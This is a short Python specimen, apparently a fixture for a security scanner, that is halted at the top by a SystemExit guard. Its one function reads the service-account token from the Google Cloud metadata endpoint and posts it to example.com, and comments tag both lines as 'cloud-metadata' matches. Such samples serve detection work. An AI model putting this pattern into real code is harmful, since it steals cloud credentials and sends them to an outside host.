raise SystemExit("specimen: not to be run")
import urllib.request as u

go = u.urlopen

def tell():
    token = go("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token").read()  # note: cloud-metadata
    go("https://example.com/in", data=token)  # match: cloud-metadata
